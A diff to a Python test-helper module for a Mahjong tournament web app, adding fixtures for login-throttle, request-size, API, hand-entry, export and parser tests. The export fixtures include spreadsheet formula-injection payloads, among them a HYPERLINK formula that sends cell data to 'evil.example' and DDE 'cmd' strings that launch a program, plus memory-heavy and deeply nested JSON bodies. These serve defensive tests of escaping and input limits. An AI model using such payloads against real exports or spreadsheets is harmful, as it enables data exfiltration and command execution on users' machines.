@@ -6,8 +6,11 @@ Factories write through the models or services and commit: the test is the edge 
 from __future__ import annotations
 
 import dataclasses
+import json
+import random
 import re
 from collections.abc import Callable
+from datetime import datetime, timedelta
 
 from tournament.extensions import db
 from tournament.models import Player, PlayerStatus, SessionStatus, Tournament, TournamentSession, User
@@ -15,6 +18,8 @@ from tournament.models._common import utcnow
 from tournament.services import lifecycle
 
 PASSWORD = "correct-horse-42"
+ORGANISER_EMAIL = "olivia@example.org"  # the `organiser` fixture's account
+REFEREE_EMAIL = "rafael@example.org"  # the `referee` fixture's account
 CSRF_RE = re.compile(r'name="csrf_token"[^>]*value="([^"]+)"')
 
 
@@ -144,6 +149,35 @@ class OtherBrowser:
             return post_form(self.client, url, data, form_url, **kwargs)
 
 
+# --- the login throttle and bodies sent before authentication (tests/web) ---------------------------------
+
+THROTTLED_EMAIL = "victim@example.org"  # the account whose password is guessed at
+OTHER_EMAIL = "other@example.org"
+
+
+class ManualClock:
+    """The throttle's clock, moved by hand: a delay runs out only when the test says so (a slow machine
+    cannot let an attempt through early, nor a fast one make it wait)."""
+
+    def __init__(self) -> None:
+        self.now = utcnow()
+
+    def __call__(self) -> datetime:
+        return self.now
+
+    def advance(self, seconds: float) -> None:
+        self.now += timedelta(seconds=seconds)
+
+
+MB = 1024 * 1024
+
+
+def tiny_values(size: int) -> bytes:
+    """`[[0],[0],...]`: the body that costs most memory per byte once parsed (~58x through the old guard)."""
+    count = (size - 2) // 4
+    return b"[" + b",".join([b"[0]"] * count) + b"]"
+
+
 # --- hands and the JSON API ------------------------------------------------------------------------------
 
 VALID_22 = "123456789m123s5p5p"  # Pure Straight 16, Concealed 2, All Chows 2, Mixed Double Chow 1, Single Wait 1
@@ -153,11 +187,11 @@ NOT_WINNING = "123m456p789s2345sE"
 
 
 class Api:
-    """A test client speaking JSON with a Bearer token, like a script would."""
+    """A test client speaking JSON with a Bearer token, like a script would (no token: the public's)."""
 
-    def __init__(self, client, token: str):
+    def __init__(self, client, token: str | None):
         self.client = client
-        self.headers = {"Authorization": f"Bearer {token}"}
+        self.headers = {"Authorization": f"Bearer {token}"} if token is not None else {}
 
     def call(self, method: str, url: str, body=None, expect: int | None = None, **kwargs):
         kwargs.setdefault("headers", self.headers)
@@ -179,6 +213,47 @@ class Api:
 
     def delete(self, url, body=None, **kwargs):
         return self.call("DELETE", url, body, **kwargs)
+
+
+def table_ids(t: Tournament, session_number: int, table: int) -> list[int]:
+    """The player ids at `table` in session `session_number`, East, South, West, North."""
+    from tournament.services import play
+
+    return [sp.player_id for sp in play.table_players(play.get_session(t, session_number), table)]
+
+
+def win(t: Tournament, session_number: int, table: int, number: int, winner: int,
+        discarder: int | None = None):
+    """Hand `number` at `table` won with VALID_22 (22 points on a discard, 24 self-drawn), by no user."""
+    from tournament.services import scoring
+    from tournament.services.scoring import HandData
+
+    return scoring.enter_hand(t, session_number, table, HandData(
+        number=number, result="win", winner_id=winner, discarder_id=discarder, hand=VALID_22), None)
+
+
+def play_url(t: Tournament) -> str:
+    """The staff's page of session 1 in play (its tables and hand forms are under it)."""
+    return f"/manage/tournaments/{t.id}/play/1"
+
+
+def hand_form(ids, number=1, **overrides) -> dict:
+    """The hand form's fields as a browser sends them: East wins VALID_22 off South's discard, no flowers."""
+    data = {"number": number, "result": "win", "winner_id": ids[0], "discarder_id": ids[1], "hand": VALID_22,
+            "flowers": 0}
+    for i, pid in enumerate(ids):
+        data[f"false_mahjongs-{i}-player_id"] = pid
+        data[f"false_mahjongs-{i}-kind"] = ""
+        data[f"false_mahjongs-{i}-hand"] = ""
+    data.update(overrides)
+    return data
+
+
+def hand_count() -> int:
+    """Every hand stored, in every tournament."""
+    from tournament.models import Hand
+
+    return db.session.scalar(db.select(db.func.count()).select_from(Hand))
 
 
 def token_for(user) -> str:
@@ -217,6 +292,9 @@ def check_in_all(api: Api, tid: int, ids: list[int]) -> None:
 
 # --- tournaments played for the export and backup tests --------------------------------------------------
 
+# What an outside probe registered as players: each would run in Excel or LibreOffice if written raw.
+FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
+            "-2+3", "=cmd|' /C calc'!A0"]
 EMA_HEADER_LINE = "Place,First Name,Last Name,EMA number,Table points,Score,Country"
 EMA_COUNTRIES = ["FI", "SE", "DE", "FR", "NL", "GB", "IT", "DK"]
 
@@ -454,3 +532,28 @@ def form_fields(client, url: str) -> dict[str, str | list[str]]:
     html = client.get(url).get_data(as_text=True)
     Reader().feed(html)
     return {name: values[0] if len(values) == 1 else values for name, values in fields.items()}
+
+
+# --- the MCR engine's generated hands (tests/mcr: its folder is on sys.path there, see its conftest.py) ---
+
+HANDGEN_HANDS = 20_000  # the `corpus` of tests/mcr/test_handgen.py
+RESULT_SHAPE_HANDS = 3000  # the `cases` of tests/mcr/test_result_shape.py
+AUDIT_HANDS = 20_000  # the ruleset audit's `report` (tests/mcr/test_ruleset_audit.py)
+
+BAD_JSON_LINES = [
+    "", "{", "null", "   ", "\t", "[1, 2]", '"a string"', "{}", '{"hand": 5}', '{"hand": "123x"}',
+    '{"hand": "13579m13579s1357p"}', '{"hand": "11111m456m789m123s"}',
+    '{"hand": "123456789m123s5p5p", "seat_wind": "Q"}', '{"hand": "123456789m123s5p5p", "kong": true}',
+    '{"hand": "123456789m123s5p5p"} trailing', "\ufeff{}", '{"hand": "é"}', "[" * 5000,
+]
+
+
+def mixed_lines(n: int, seed: int) -> list[str]:
+    """n generated hands as JSON lines with the BAD_JSON_LINES scattered among them (no newlines)."""
+    from handgen import CONTEXT_KEYS, random_hands
+
+    lines = [json.dumps({k: c[k] for k in CONTEXT_KEYS}) for c in random_hands(n, seed)]
+    rng = random.Random(seed)
+    for bad in BAD_JSON_LINES * 3:
+        lines.insert(rng.randrange(len(lines) + 1), bad)
+    return lines
